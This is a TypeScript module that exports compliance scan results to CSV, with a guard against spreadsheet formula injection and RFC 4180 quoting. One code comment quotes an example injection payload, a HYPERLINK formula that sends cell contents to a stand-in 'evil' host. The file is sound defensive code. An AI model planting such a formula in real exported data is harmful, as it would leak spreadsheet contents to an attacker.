import type { ScanEvaluation, ScanReport } from '../scan-types';
import { applyFilter, type EvaluationFilter } from './report';

/** The CSV columns, in order (the header row). */
export const CSV_COLUMNS = [
  'account',
  'region',
  'rule',
  'severity',
  'control',
  'resourceType',
  'resourceId',
  'compliance',
  'annotation',
  'evaluatedAt',
  'offenders',
  'remediation',
  'error',
] as const;

/**
 * First characters that make Excel, LibreOffice Calc or Google Sheets read a cell as a formula
 * (OWASP "CSV Injection"; OWASP ASVS 5.0 requirement 1.2.10 adds NUL). A Glue job,
 * connection or argument name may start with any of them, so a scanned name like
 * `=HYPERLINK("https://evil/?"&A1)` would otherwise run in the reviewer's spreadsheet.
 */
const FORMULA_START = /^[=+\-@\t\r\0]/;

/**
 * A cell a spreadsheet takes as text: a value starting with a formula character gets a leading `'`
 * (Excel and Calc hide it and show the rest as text; plain CSV readers see it). Our columns hold
 * names, ids, verdicts and prose, never numbers, so no legitimate negative number is altered; a
 * value starting with `-` (an argument name like `--db_password`) reads `'--db_password`.
 */
export function neutraliseFormula(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/**
 * One field: formula-neutralised, then quoted when it holds a comma, a double quote, CR or LF, with
 * inner quotes doubled (RFC 4180 section 2, rules 5-7).
 */
export function csvField(value: string): string {
  const text = neutraliseFormula(value);
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

function cell(e: ScanEvaluation, column: (typeof CSV_COLUMNS)[number]): string {
  if (column === 'offenders') return (e.offenders ?? []).join('; ');
  return e[column] ?? '';
}

/**
 * `--format csv`: a header row then one record per (filtered) evaluation, CRLF line breaks as
 * RFC 4180 specifies. Pure CSV: the scan metadata lives in the json/asff outputs and in the
 * --output-dir metadata file, never in comment lines a CSV reader would take as data.
 */
export function renderCsv(report: ScanReport, filter: EvaluationFilter = {}): string {
  const lines = [CSV_COLUMNS.join(',')];
  for (const e of applyFilter(report.evaluations, filter))
    lines.push(CSV_COLUMNS.map((c) => csvField(cell(e, c))).join(','));
  return `${lines.join('\r\n')}\r\n`;
}
